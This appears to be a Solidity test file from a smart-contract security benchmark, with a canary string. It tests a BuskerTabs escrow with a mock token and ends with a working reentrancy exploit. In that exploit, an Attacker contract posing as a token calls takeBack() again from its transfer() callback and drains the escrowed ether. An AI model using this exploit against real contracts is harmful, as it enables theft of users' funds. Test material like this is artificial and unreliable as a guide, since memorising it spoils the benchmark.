pragma solidity 0.4.26;

import "./BuskerTabs.sol";

// assay-canary-0cc85707-4c2c-4135-8b02-fe972e267fb6

interface Vm {
    function deal(address who, uint256 balance) external;
    function prank(address sender) external;
    function warp(uint256 time) external;
    function expectRevert(bytes reason) external;
}

contract Coin {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        require(balanceOf[msg.sender] >= amount);
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        require(balanceOf[from] >= amount);
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant LISTENER = address(0x115);
    address constant PERFORMER = address(0x9E2);

    BuskerTabs internal tabs;
    Coin internal coin;
    Attacker internal thief;
    bytes32 internal honest;

    function setUp() public {
        vm.warp(1538000000);
        tabs = new BuskerTabs();
        coin = new Coin();
        coin.mint(LISTENER, 500);
        vm.deal(LISTENER, 170 ether);
        vm.prank(LISTENER);
        honest = tabs.offer.value(160 ether)(PERFORMER, coin, 400, 30 days);
        thief = new Attacker(tabs);
        vm.deal(address(thief), 5 ether);
    }

    function test_Regular() public {
        require(coin.balanceOf(tabs) == 400);
        require(!address(tabs).call(abi.encodeWithSignature("sit(bytes32,uint64)", honest, uint64(1 days))));
        vm.prank(PERFORMER);
        tabs.sit(honest, 1 days);
        vm.prank(PERFORMER);
        tabs.nameSplit(honest, 60 ether, 100);
        vm.prank(LISTENER);
        tabs.nameSplit(honest, 50 ether, 100);
        require(PERFORMER.balance == 0);
        vm.prank(LISTENER);
        tabs.nameSplit(honest, 60 ether, 100);
        require(PERFORMER.balance == 60 ether && LISTENER.balance == 110 ether);
        require(coin.balanceOf(PERFORMER) == 100 && coin.balanceOf(LISTENER) == 400);
        require(address(tabs).balance == 0);

        vm.prank(LISTENER);
        bytes32 id = tabs.offer.value(10 ether)(PERFORMER, coin, 50, 2 hours);
        require(id != honest);
        vm.prank(LISTENER);
        require(!address(tabs).call(abi.encodeWithSignature("takeBack(bytes32)", id)));
        vm.warp(1538000000 + 3 hours);
        require(!address(tabs).call(abi.encodeWithSignature("takeBack(bytes32)", id)));
        vm.prank(LISTENER);
        tabs.takeBack(id);
        require(LISTENER.balance == 110 ether && coin.balanceOf(LISTENER) == 400);
        vm.prank(LISTENER);
        require(!address(tabs).call(abi.encodeWithSignature("takeBack(bytes32)", id)));
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Offers are for somebody else, for a while, and of something.
    function test_RefusesOffers() public {
        refuses(LISTENER, "performer");
        tabs.offer.value(1 ether)(address(0), coin, 0, 1 days);
        refuses(LISTENER, "performer");
        tabs.offer.value(1 ether)(LISTENER, coin, 0, 1 days);
        refuses(LISTENER, "term");
        tabs.offer.value(1 ether)(PERFORMER, coin, 0, 1 hours - 1);
        refuses(LISTENER, "term");
        tabs.offer.value(1 ether)(PERFORMER, coin, 0, 60 days + 1);
        refuses(LISTENER, "nothing");
        tabs.offer(PERFORMER, coin, 0, 1 days);
        vm.prank(LISTENER);
        tabs.offer.value(1 ether)(PERFORMER, coin, 0, 1 days);
        vm.prank(LISTENER);
        tabs.offer(PERFORMER, coin, 10, 1 days);
        coin.sleep(true);
        refuses(LISTENER, "coins");
        tabs.offer(PERFORMER, coin, 10, 1 days);
    }

    /// A tab is taken in time, once, and split between the two of it.
    function test_RefusesSplits() public {
        refuses(PERFORMER, "not seated");
        tabs.nameSplit(honest, 0, 0);
        refuses(PERFORMER, "term");
        tabs.sit(honest, 1 hours - 1);
        refuses(PERFORMER, "term");
        tabs.sit(honest, 60 days + 1);
        vm.prank(PERFORMER);
        tabs.sit(honest, 1 days);
        refuses(PERFORMER, "not offered");
        tabs.sit(honest, 1 days);
        vm.expectRevert("party");
        tabs.nameSplit(honest, 0, 0);
        refuses(PERFORMER, "split");
        tabs.nameSplit(honest, 160 ether + 1, 0);
        refuses(PERFORMER, "split");
        tabs.nameSplit(honest, 0, 401);
        vm.warp(now + 2 days);
        coin.sleep(true);
        refuses(LISTENER, "coins");
        tabs.takeBack(honest);
        refuses(address(0), "not yours");
        tabs.takeBack(bytes32(1));
    }

    /// An offer that is over is not taken any more.
    function test_RefusesLatePerformers() public {
        vm.warp(now + 30 days + 1);
        refuses(PERFORMER, "term");
        tabs.sit(honest, 1 days);
    }

    function exploit() public {
        thief.open();
        vm.warp(1538000000 + 2 hours);
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = address(thief).balance;
        exploit();
        require(address(thief).balance >= before + 155 ether);
    }

    function target() public view returns (address) {
        return address(tabs);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Listener, and coin of its own tab: asks for the tab again whenever it is told to pay itself coins.
contract Attacker {
    BuskerTabs internal tabs;
    bytes32 internal id;

    constructor(BuskerTabs tabs_) public {
        tabs = tabs_;
    }

    function () external payable {}

    function open() external {
        id = tabs.offer.value(5 ether)(address(1), this, 1, 1 hours);
    }

    function run() external {
        tabs.takeBack(id);
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }

    function transfer(address, uint256) external returns (bool) {
        if (address(tabs).balance >= 5 ether) tabs.takeBack(id);
        return true;
    }
}
